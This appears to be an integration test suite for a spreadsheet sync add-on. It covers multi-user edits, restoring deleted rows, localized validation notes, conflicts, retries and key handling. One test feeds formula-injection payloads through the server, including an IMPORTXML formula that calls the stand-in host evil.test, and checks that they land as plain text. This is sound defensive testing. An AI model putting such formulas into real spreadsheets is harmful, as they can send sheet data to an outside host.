import * as addon from '../../addon/main';
import { DATABASE_KINDS } from '../support/databases';
import { columnOf, execute, rowOf, sheetRecords, startTeam } from '../support/addon-harness';
import type { AppsScriptEnvironment } from '../fakes/apps-script-globals';

type Team = Awaited<ReturnType<typeof startTeam>>;

function connect(env: AppsScriptEnvironment, team: Team, key: string) {
  return execute(env, () => addon.saveConnection({ url: team.url, key }));
}

function sync(env: AppsScriptEnvironment) {
  env.spreadsheet.resetStats();
  const before = env.urlFetch.calls.length;
  const summary = execute(env, () => addon.syncNow());
  return { summary, fetches: env.urlFetch.calls.length - before };
}

function typeRow(env: AppsScriptEnvironment, sheetName: string, values: Record<string, unknown>) {
  const sheet = env.spreadsheet.getSheetByName(sheetName)!;
  const headers = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0]!;
  const row = headers.map((h) => (String(h) in values ? values[String(h)] : ''));
  sheet.getRange(sheet.getLastRow() + 1, 1, 1, row.length).setValues([row as never[]]);
}

function setCell(env: AppsScriptEnvironment, sheetName: string, key: string, header: string, value: unknown) {
  env.spreadsheet
    .getSheetByName(sheetName)!
    .getRange(rowOf(env, sheetName, key), columnOf(env, sheetName, header))
    .setValue(value as never);
}

function record(env: AppsScriptEnvironment, sheetName: string, key: string) {
  return sheetRecords(env, sheetName).find((r) => String(Object.values(r)[0]) === key);
}

describe.each(DATABASE_KINDS)('the add-on syncing real spreadsheets through the server, on %s', (kind) => {
  let team: Team;
  let salesKey: string;
  let buyerKey: string;
  beforeAll(async () => {
    team = await startTeam(kind);
    salesKey = await team.memberKey('sales@shop.test', ['sales']);
    buyerKey = await team.memberKey('buyer@shop.test', ['purchasing']);
  });
  afterAll(async () => {
    await team?.close();
  });

  test('two team members: an edit in one spreadsheet reaches the other, with few reads, writes and fetches', () => {
    const amy = team.person('sales@shop.test');
    const ben = team.person('buyer@shop.test');
    for (const [env, key] of [
      [amy, salesKey],
      [ben, buyerKey],
    ] as const) {
      execute(env, () => addon.setupSheets());
      expect(connect(env, team, key)).toMatchObject({ ok: true });
    }
    typeRow(amy, 'Products', {
      SKU: 'MUG-1',
      'Name (English)': 'Mug',
      'Unit cost': 2.5,
      'Cost currency': 'USD',
      Attributes: 'liquid',
      'Weight (g)': 350,
      Active: true,
    });
    typeRow(amy, 'Products', { SKU: '00123', 'Name (English)': 'Zero-led SKU', Active: true });
    const first = sync(amy);
    expect(first.summary).toMatchObject({ pushed: 2, applied: 2, rejected: 0 });
    expect(first.fetches).toBe(1);
    // One full read, and the key column again just before writing (rows may have moved meanwhile).
    expect(amy.spreadsheet.stats.readCalls.Products).toBe(2);

    const onBen = sync(ben);
    expect(onBen.fetches).toBe(1);
    expect(onBen.summary).toMatchObject({ pushed: 0, pulled: 2 });
    expect(record(ben, 'Products', 'MUG-1')).toMatchObject({
      'Name (English)': 'Mug',
      'Unit cost': 2.5,
      'Cost currency': 'USD',
      Attributes: 'liquid',
      'Weight (g)': 350,
      Active: true,
      'Updated by': 'sales@shop.test',
    });
    // "00123" typed in the sheet became the number 123 (Sheets does that); the server keeps the text.
    expect(record(ben, 'Products', '123')).toBeDefined();

    setCell(ben, 'Products', 'MUG-1', 'Unit cost', 2.75);
    expect(sync(ben).summary).toMatchObject({ pushed: 1, applied: 1 });
    const back = sync(amy);
    expect(back.summary).toMatchObject({ pushed: 0, pulled: 1 });
    expect(record(amy, 'Products', 'MUG-1')).toMatchObject({ 'Unit cost': 2.75, 'Updated by': 'buyer@shop.test' });
    // Nothing changed: nothing pushed, nothing pulled, nothing written to the synced sheets.
    const idle = sync(amy);
    expect(idle.summary).toMatchObject({ pushed: 0, pulled: 0 });
    expect(amy.spreadsheet.stats.writeCalls.Products ?? 0).toBe(0);
  });

  test('sorting and inserting rows never break sync; a deleted row comes back with a note', () => {
    const amy = team.person('sales@shop.test');
    execute(amy, () => addon.setupSheets());
    connect(amy, team, salesKey);
    sync(amy);
    for (const sku of ['C-3', 'A-1', 'B-2'])
      typeRow(amy, 'Products', { SKU: sku, 'Name (English)': `Item ${sku}`, Active: true });
    sync(amy);
    const sheet = amy.spreadsheet.getSheetByName('Products')!;
    sheet.sort(1, false);
    sheet.insertRowBefore(3);
    const afterSort = sync(amy);
    expect(afterSort.summary).toMatchObject({ pushed: 0 });

    const ben = team.person('buyer@shop.test');
    execute(ben, () => addon.setupSheets());
    connect(ben, team, buyerKey);
    sync(ben);
    setCell(ben, 'Products', 'B-2', 'Supplier', 'Yiwu Trading');
    sync(ben);
    sync(amy);
    expect(record(amy, 'Products', 'B-2')).toMatchObject({ Supplier: 'Yiwu Trading', 'Name (English)': 'Item B-2' });
    expect(record(amy, 'Products', 'A-1')).toMatchObject({ Supplier: '' });

    sheet.deleteRow(rowOf(amy, 'Products', 'A-1'));
    const restored = sync(amy);
    expect(restored.summary!.restored).toBe(1);
    expect(restored.fetches).toBe(2);
    expect(record(amy, 'Products', 'A-1')).toMatchObject({
      'Name (English)': 'Item A-1',
      'Sync note': expect.stringContaining('restored'),
    });
  });

  test('a computed column typed over is put back with a note; bad rows keep what was typed and say why in Chinese', () => {
    const zhang = team.person('sales@shop.test', { locale: 'zh_CN' });
    execute(zhang, () => addon.setupSheets());
    expect(zhang.spreadsheet.getSheetByName('产品')).not.toBeNull();
    connect(zhang, team, salesKey);
    sync(zhang);
    typeRow(zhang, '产品', { SKU: 'ZH-1', 英文名称: 'Lamp', 启用: true });
    sync(zhang);
    setCell(zhang, '产品', 'ZH-1', '更新人', 'me');
    const restored = sync(zhang);
    expect(restored.summary).toMatchObject({ pushed: 1, applied: 1 });
    expect(record(zhang, '产品', 'ZH-1')).toMatchObject({
      更新人: 'sales@shop.test',
      同步备注: expect.stringContaining('更新人'),
    });

    typeRow(zhang, '产品', { SKU: 'ZH-2', 英文名称: '', '重量(克)': 'heavy', 单位成本: 3, 启用: true });
    const rejected = sync(zhang);
    expect(rejected.summary).toMatchObject({ rejected: 1 });
    const bad = record(zhang, '产品', 'ZH-2')!;
    expect(bad['重量(克)']).toBe('heavy');
    expect(String(bad['同步备注'])).toContain('英文名称为必填项');
    expect(String(bad['同步备注'])).toContain('重量(克)必须是整数');
    expect(String(bad['同步备注'])).toContain('成本币种需要填写币种');

    setCell(zhang, '产品', 'ZH-2', '英文名称', 'Desk');
    setCell(zhang, '产品', 'ZH-2', '重量(克)', 1200);
    setCell(zhang, '产品', 'ZH-2', '成本币种', 'CNY');
    expect(sync(zhang).summary).toMatchObject({ applied: 1, rejected: 0 });
    expect(record(zhang, '产品', 'ZH-2')).toMatchObject({ 同步备注: '', '重量(克)': 1200 });
  });

  test('simultaneous edits: the later sync gets a conflict note with its own values, and the server row', () => {
    const amy = team.person('sales@shop.test');
    const ben = team.person('buyer@shop.test');
    for (const [env, key] of [
      [amy, salesKey],
      [ben, buyerKey],
    ] as const) {
      execute(env, () => addon.setupSheets());
      connect(env, team, key);
      sync(env);
    }
    typeRow(amy, 'Products', { SKU: 'CF-1', 'Name (English)': 'Kettle', Active: true });
    sync(amy);
    sync(ben);
    setCell(amy, 'Products', 'CF-1', 'Supplier', 'Amy Supplies');
    setCell(ben, 'Products', 'CF-1', 'Supplier', 'Ben Supplies');
    sync(ben);
    const conflicted = sync(amy);
    expect(conflicted.summary!.conflicts).toBe(1);
    const note = String(record(amy, 'Products', 'CF-1')!['Sync note']);
    expect(record(amy, 'Products', 'CF-1')).toMatchObject({ Supplier: 'Ben Supplies' });
    // The note names only what differs, by its column header.
    expect(note).toContain('your values were: Supplier=Amy Supplies');
    expect(note).not.toContain('Name (English)');
  });

  test('text from outside lands as text, never as a formula', async () => {
    const injected = ['=IMPORTXML("http://evil.test","//a")', '+SUM(1,2)', '-cmd', '@mention'];
    const pushed = await team.api('POST', '/v1/sync/push', {
      clientId: 'script-injector',
      mutationId: Date.now(),
      tables: {
        products: injected.map((name, i) => ({
          key: `INJ-${i}`,
          baseVersion: null,
          values: { name_en: name, supplier: name },
        })),
      },
    });
    expect(pushed.status).toBe(200);
    const amy = team.person('sales@shop.test');
    execute(amy, () => addon.setupSheets());
    connect(amy, team, salesKey);
    sync(amy);
    expect(amy.spreadsheet.formulaWrites).toEqual([]);
    injected.forEach((name, i) =>
      expect(record(amy, 'Products', `INJ-${i}`)).toMatchObject({ 'Name (English)': name, Supplier: name }),
    );
    expect(sync(amy).summary!.pushed).toBe(0);
  });

  test('a push whose answer was lost is retried with the same mutation and applied once', async () => {
    const amy = team.person('sales@shop.test');
    execute(amy, () => addon.setupSheets());
    connect(amy, team, salesKey);
    sync(amy);
    typeRow(amy, 'Products', { SKU: 'RETRY-1', 'Name (English)': 'Once', Active: true });
    amy.urlFetch.dropResponseNext();
    const result = sync(amy);
    expect(result.fetches).toBe(2);
    expect(result.summary).toMatchObject({ applied: 1 });
    const events = await team.api('GET', '/v1/events?entity=products&key=RETRY-1');
    expect(events.body.events).toHaveLength(1);
  });

  test('connecting: a bad URL or key is explained and not saved; the key stays with its person', () => {
    const amy = team.person('sales@shop.test');
    expect(connect(amy, team, 'not-a-key')).toMatchObject({ ok: false, message: expect.stringContaining('cdk_') });
    expect(execute(amy, () => addon.saveConnection({ url: 'ftp://x', key: salesKey }))).toMatchObject({ ok: false });
    expect(connect(amy, team, 'cdk_0000000000000000000000000000000000')).toMatchObject({
      ok: false,
      message: expect.stringContaining('401'),
    });
    expect(amy.spreadsheet.documentProperties.data.get('crossdock.serverUrl')).toBeUndefined();
    expect(connect(amy, team, salesKey)).toMatchObject({
      ok: true,
      message: expect.stringContaining('sales@shop.test'),
    });
    expect(amy.spreadsheet.documentProperties.data.get('crossdock.serverUrl')).toBe(team.url);
    // The key is the person's: a colleague opening the same spreadsheet has the URL but not the key.
    const colleague = team.person('buyer@shop.test', { spreadsheet: amy.spreadsheet });
    const refused = execute(colleague, () => addon.syncNow());
    expect(refused).toBeNull();
    expect(colleague.ui.alerts.at(-1)?.prompt).toContain('Connect to server');
  });
});
